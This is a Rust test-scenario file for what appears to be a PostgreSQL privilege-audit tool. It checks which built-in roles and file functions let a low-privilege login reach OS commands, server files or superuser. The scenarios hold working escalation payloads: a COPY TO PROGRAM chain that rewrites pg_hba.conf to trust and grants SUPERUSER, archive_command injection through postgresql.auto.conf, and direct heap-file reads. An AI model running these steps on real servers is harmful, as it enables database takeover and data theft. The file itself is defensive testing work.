//! Programs and files of the server.

use pgward_audit::paths::graph::Sink;
use pgward_audit::paths::mechanism::Mechanism;
use pgward_audit::rule::Versions;

use crate::scenario::{Act, Claim, End, NONE, Scenario};

pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        name: "program",
        claim: Claim::Edge(Mechanism::ExecuteServerProgram, End::Sink(Sink::OsCommand)),
        from: End::Role("pg_execute_server_program"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN program_low;
            GRANT pg_execute_server_program TO program_low;
        "#,
        acts: &[
            Act::Low("program_low", r#"COPY (SELECT 1) TO PROGRAM 'cat > {data}/program_was_here'"#),
            Act::Wrote(r#"{data}/program_was_here"#),
        ],
    },
    Scenario {
        name: "server_account",
        claim: Claim::Edge(Mechanism::ServerAccount, End::Sink(Sink::Superuser)),
        from: End::Sink(Sink::OsCommand),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN server_account_low;
            GRANT pg_execute_server_program TO server_account_low;
        "#,
        acts: &[
            Act::Low(
                "server_account_low",
                r#"COPY (SELECT 1) TO PROGRAM 'cat > /dev/null; cp {hba} {hba}.old; (echo local all postgres trust; cat {hba}.old) > {hba}; kill -HUP $(head -1 {data}/postmaster.pid); sleep 1; LD_LIBRARY_PATH={lib} PGHOST={socket} PGPORT={port} {psql} -X -U postgres -c "ALTER ROLE server_account_low SUPERUSER"; cat {hba}.old > {hba}; kill -HUP $(head -1 {data}/postmaster.pid)'"#,
            ),
            Act::IsSuperuser("server_account_low"),
        ],
    },
    Scenario {
        name: "write_files",
        claim: Claim::Edge(Mechanism::WriteServerFiles, End::Sink(Sink::OsCommand)),
        from: End::Role("pg_write_server_files"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN write_files_low;
            GRANT pg_write_server_files TO write_files_low;
        "#,
        acts: &[
            Act::Low(
                "write_files_low",
                r#"COPY (SELECT $$archive_command = 'touch {data}/write_files_was_here'$$) TO '{data}/postgresql.auto.conf'"#,
            ),
            Act::Superuser(r#"SELECT pg_reload_conf()"#),
            Act::Archived(r#"{data}/write_files_was_here"#),
            Act::Superuser(r#"ALTER SYSTEM RESET archive_command"#),
            Act::Superuser(r#"SELECT pg_reload_conf()"#),
        ],
    },
    Scenario {
        name: "read_files",
        claim: Claim::Edge(Mechanism::ReadServerFiles, End::Sink(Sink::ServerFiles)),
        from: End::Role("pg_read_server_files"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN read_files_low;
            GRANT pg_read_server_files TO read_files_low;
        "#,
        acts: &[Act::LowSees(
            "read_files_low",
            r#"CREATE TEMP TABLE read_files (line text); COPY read_files FROM '{data}/PG_VERSION'; SELECT count(*) FROM read_files"#,
            r#"1"#,
        )],
    },
    Scenario {
        name: "read_files_heap",
        claim: Claim::Reaches(Sink::AllRead),
        from: End::Role("read_files_heap_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN read_files_heap_low;
            GRANT pg_read_server_files TO read_files_heap_low;
            CREATE TABLE read_files_heap_t (v text); INSERT INTO read_files_heap_t VALUES ('in a file'); CHECKPOINT;
        "#,
        acts: &[Act::Low(
            "read_files_heap_low",
            r#"CREATE TEMP TABLE read_heap (line text); DO $$ BEGIN EXECUTE format('COPY read_heap FROM %L', '{data}/' || pg_relation_filepath('read_files_heap_t')); END $$"#,
        )],
    },
    Scenario {
        name: "binary_file",
        claim: Claim::Edge(Mechanism::DataFiles, End::Sink(Sink::AllRead)),
        from: End::Role("binary_file_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN binary_file_low;
            GRANT EXECUTE ON FUNCTION pg_read_binary_file(text) TO binary_file_low;
            CREATE TABLE binary_file_t (v text); INSERT INTO binary_file_t VALUES ('in a file'); CHECKPOINT;
        "#,
        acts: &[Act::LowSees(
            "binary_file_low",
            r#"SELECT position('in a file'::bytea in pg_read_binary_file(pg_relation_filepath('binary_file_t'))) > 0"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "large_object_import",
        claim: Claim::Edge(Mechanism::DataFiles, End::Sink(Sink::AllRead)),
        from: End::Role("large_object_import_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN large_object_import_low;
            GRANT EXECUTE ON FUNCTION lo_import(text) TO large_object_import_low;
            CREATE TABLE large_object_import_t (v text); INSERT INTO large_object_import_t VALUES ('in a file'); CHECKPOINT;
        "#,
        acts: &[Act::LowSees(
            "large_object_import_low",
            r#"SELECT lo_import(pg_relation_filepath('large_object_import_t')) AS made \gset
SELECT position('in a file'::bytea in lo_get(:made)) > 0"#,
            r#"t"#,
        )],
    },
    Scenario {
        name: "text_file_heap",
        claim: Claim::Reaches(Sink::AllRead),
        from: End::Role("text_file_heap_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN text_file_heap_low;
            GRANT EXECUTE ON FUNCTION pg_read_file(text) TO text_file_heap_low;
            CREATE TABLE text_file_heap_t (v text); INSERT INTO text_file_heap_t VALUES ('in a file'); CHECKPOINT;
        "#,
        acts: &[Act::Low(
            "text_file_heap_low",
            r#"SELECT pg_read_file(pg_relation_filepath('text_file_heap_t'))"#,
        )],
    },
    Scenario {
        name: "text_file",
        claim: Claim::Edge(Mechanism::FileFunction, End::Sink(Sink::ServerFiles)),
        from: End::Role("text_file_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN text_file_low;
            GRANT EXECUTE ON FUNCTION pg_read_file(text) TO text_file_low;
        "#,
        acts: &[Act::LowSees("text_file_low", r#"SELECT pg_read_file('PG_VERSION') <> ''"#, r#"t"#)],
    },
    Scenario {
        name: "large_object_export",
        claim: Claim::Edge(Mechanism::FileFunction, End::Sink(Sink::OsCommand)),
        from: End::Role("large_object_export_low"),
        own_database: false,
        applies: Versions::ALL,
        works: Versions::ALL,
        scene: r#"
            LOGIN large_object_export_low;
            GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO large_object_export_low;
        "#,
        acts: &[
            Act::Low(
                "large_object_export_low",
                r#"SELECT lo_from_bytea(0, convert_to('archive_command = ''touch {data}/large_object_was_here''', 'UTF8')) AS made \gset
SELECT lo_export(:made, '{data}/postgresql.auto.conf')"#,
            ),
            Act::Superuser(r#"SELECT pg_reload_conf()"#),
            Act::Archived(r#"{data}/large_object_was_here"#),
            Act::Superuser(r#"ALTER SYSTEM RESET archive_command"#),
            Act::Superuser(r#"SELECT pg_reload_conf()"#),
        ],
    },
    Scenario {
        name: "file_function_not_granted",
        claim: Claim::Reaches(Sink::OsCommand),
        from: End::Role("file_function_not_granted_low"),
        own_database: false,
        applies: Versions::ALL,
        works: NONE,
        scene: r#"
            LOGIN file_function_not_granted_low;
        "#,
        acts: &[Act::Low(
            "file_function_not_granted_low",
            r#"SELECT lo_from_bytea(0, 'x') AS made \gset
SELECT lo_export(:made, '{data}/not_granted')"#,
        )],
    },
];
